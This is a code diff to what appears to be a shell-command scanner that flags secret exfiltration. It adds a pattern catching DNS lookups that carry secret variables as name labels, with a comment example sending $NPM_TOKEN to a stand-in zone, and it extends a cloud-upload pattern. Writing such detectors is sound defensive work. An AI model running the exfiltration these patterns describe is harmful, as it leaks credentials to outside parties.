@@ -38,6 +38,15 @@ import type { Stage } from "./shell-words.ts";
 const PUBLIC_IP =
   /(?:^|[\s/@"'=])(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)(?:\d{1,3}\.){3}\d{1,3}(?=[:/\s"']|$)/;
 
+/**
+ * A secret-named variable (whole or a slice) as a label of a looked-up name, `nslookup "$NPM_TOKEN.t.example"`: the
+ * name's zone reads it. A DNS name carries no credential to its owner, so no owner check applies; names of where to
+ * look (`$AUTH_HOST`, `$SESSION_DOMAIN`) are not secrets.
+ */
+const DNS_SECRET_LABEL = new RegExp(
+  `${SENSITIVE_VAR.source.replace(/\\\}\?$/, "")}(?<!(?:HOST|SERVER|DOMAIN|ZONE|NAME|PREFIX|REGION|URL|ENDPOINT|ID))(?::[^{}s]{1,24})?}?.[A-Za-z0-9-]+.[A-Za-z]`,
+);
+
 /** A network command whose own arguments, headers or stdin carry a secret, a DNS lookup carrying data, a file upload. */
 export function sinkArgHits(s: Stage, src: string, hits: Hit[]): void {
   const { cmd, name } = s;
@@ -72,6 +81,7 @@ export function sinkArgHits(s: Stage, src: string, hits: Hit[]): void {
       ENV_INLINE.exec(envData)?.[0] ??
       substitutedSecret(envData) ??
       varSent ??
+      (DNS.has(name) ? DNS_SECRET_LABEL.exec(data)?.[0] : undefined) ??
       headerSecret ??
       stdin?.target.text ??
       fed;
@@ -116,7 +126,7 @@ export function sinkArgHits(s: Stage, src: string, hits: Hit[]): void {
 
 /** A cloud storage client's upload: its source arguments go to a bucket, a container or a remote of the account. */
 const CLOUD_UPLOAD =
-  /^(?:az\s+storage\s+(?:blob|file)\s+upload(?:-batch)?|azcopy\s+(?:copy|cp|sync)|mc\s+(?:cp|mirror|put)|gsutil\s+(?:-[mq]\s+){0,2}(?:cp|rsync|mv)|gcloud\s+storage\s+(?:cp|rsync)|aws\s+s3\s+(?:cp|sync|mv)|s3cmd\s+(?:put|sync)|rclone\s+(?:copy|copyto|sync|move)|b2\s+upload-file|oci\s+os\s+object\s+put)\b/;
+  /^(?:(?:npx|bunx|pnpx)\s+(?:-y\s+|--yes\s+)?)?(?:az\s+storage\s+(?:blob|file)\s+upload(?:-batch)?|azcopy\s+(?:copy|cp|sync)|mc\s+(?:cp|mirror|put)|gsutil\s+(?:-[mq]\s+){0,2}(?:cp|rsync|mv)|gcloud\s+storage\s+(?:cp|rsync)|aws\s+s3\s+(?:cp|sync|mv)|s3cmd\s+(?:put|sync)|rclone\s+(?:copy|copyto|sync|move)|b2\s+(?:upload-file|file\s+upload)|oci\s+os\s+object\s+put|wrangler\s+r2\s+object\s+put)\b/;
 
 /** A mailer or ssh fed a secret on stdin; a cloud upload of a secret file; any other program given a host and a secret. */
 export function otherSinkHits(s: Stage, hits: Hit[]): void {
